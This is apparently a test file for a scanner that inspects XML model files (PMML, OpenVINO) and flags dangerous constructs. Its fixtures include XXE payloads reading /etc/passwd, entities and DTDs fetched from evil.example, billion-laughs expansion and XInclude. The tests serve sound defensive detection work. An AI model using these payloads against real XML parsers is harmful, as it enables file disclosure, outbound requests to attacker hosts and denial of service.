import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { utf8 } from '#formats/test-files/bytes';
import { scanBytes } from '../test-scan.ts';

const pmml = (doctype: string, body = '') => utf8(`<?xml version="1.0"?>\n${doctype}<PMML version="4.4"><Header>${body}</Header></PMML>`);
const laughs = (levels: number) =>
  ['<!ENTITY a0 "lol">', ...Array.from({ length: levels }, (_, level) => `<!ENTITY a${level + 1} "${`&a${level};`.repeat(10)}">`)].join('');

test('models in XML without a document type are clean and told why', () => {
  expect(scanBytes(pmml(''))).toMatchObject({ verdict: 'clean', outcome: 'scanned', format: { kind: 'xml', label: 'PMML model (XML)' } });
  const net = utf8('<net name="m" version="11"><layers><layer id="0" type="Parameter" version="opset1"/></layers></net>');
  expect(scanBytes(net)).toMatchObject({ verdict: 'clean', format: { label: 'OpenVINO model (XML)' } });
});

describe('what a reader would fetch or unfold is told', () => {
  test.each([
    ['a file of the machine', '<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '&x;', 'MDL-XML-001', 'high'],
    ['an address behind a public name', "<!DOCTYPE p [<!ENTITY x PUBLIC 'a' 'http://evil.example/x'>]>", '&x;', 'MDL-XML-001', 'high'],
    ['a parameter entity', '<!DOCTYPE p [<!ENTITY % r SYSTEM "http://evil.example/x.dtd"> %r;]>', '', 'MDL-XML-001', 'high'],
    [
      'one behind comments',
      '<!-- > ]> --><!DOCTYPE p [<!-- <!ENTITY a "b"> ]> --><?x ]> ?><!ENTITY x SYSTEM "/x">]>',
      '',
      'MDL-XML-001',
      'high',
    ],
    ['one behind a quoted bracket', '<!DOCTYPE p [<!ENTITY a "]>"><!ENTITY x SYSTEM "/x">]>', '', 'MDL-XML-001', 'high'],
    ['a document type of elsewhere', '<!DOCTYPE p SYSTEM "http://evil.example/x.dtd">', '', 'MDL-XML-003', 'high'],
    ['entities that unfold', `<!DOCTYPE p [${laughs(9)}]>`, '&a9;', 'MDL-XML-002', 'medium'],
    ['an entity that holds itself', '<!DOCTYPE p [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', '&a;', 'MDL-XML-002', 'medium'],
  ])('%s', (_, doctype, body, rule, level) => {
    const scan = scanBytes(pmml(doctype, body));
    expect(scan).toMatchObject({ rules: [rule], verdict: level });
    const [first] = scan.observations;
    expect(first?.location.length).toBeGreaterThan(0);
  });

  test('an inclusion, and a layer of a foreign library', () => {
    const included = '<PMML xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></PMML>';
    expect(scanBytes(utf8(included))).toMatchObject({ rules: ['MDL-XML-004'], verdict: 'high' });
    const layer = '<net name="m" version="11"><layers><layer id="0" type="Run" version="extension"/></layers></net>';
    expect(scanBytes(utf8(layer))).toMatchObject({ rules: ['MDL-XML-005'], verdict: 'medium' });
  });

  test('a text of two bytes a letter', () => {
    const text = '\ufeff<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "/etc/passwd">]><p>&x;</p>';
    expect(scanBytes(new Uint8Array(Buffer.from(text, 'utf16le'))).rules).toEqual(['MDL-XML-001']);
  });
});

test('published document types and plain entities stay clean', () => {
  const published = '<!DOCTYPE PMML PUBLIC "PMML 3.0" "http://www.dmg.org/v3-0/pmml-3-0.dtd">';
  expect(scanBytes(pmml(published)).verdict).toBe('clean');
  expect(scanBytes(pmml('<!DOCTYPE p [<!ENTITY company "A name">]>', '&company;')).verdict).toBe('clean');
});

test('any text behind an XML declaration is read without a fault', () => {
  const words = fc.constantFrom(
    '<!DOCTYPE p [',
    '<!ENTITY ',
    '% ',
    'a ',
    '"&a;"',
    'SYSTEM ',
    '"',
    "'",
    '<!--',
    '-->',
    '<?',
    '?>',
    ']',
    '>',
    ' ',
  );
  fc.assert(
    fc.property(fc.array(words, { maxLength: 40 }), (parts) => {
      expect(scanBytes(utf8(`<?xml version="1.0"?>${parts.join('')}`)).outcome).toBe('scanned');
    }),
    { seed: 7, numRuns: 200 },
  );
});
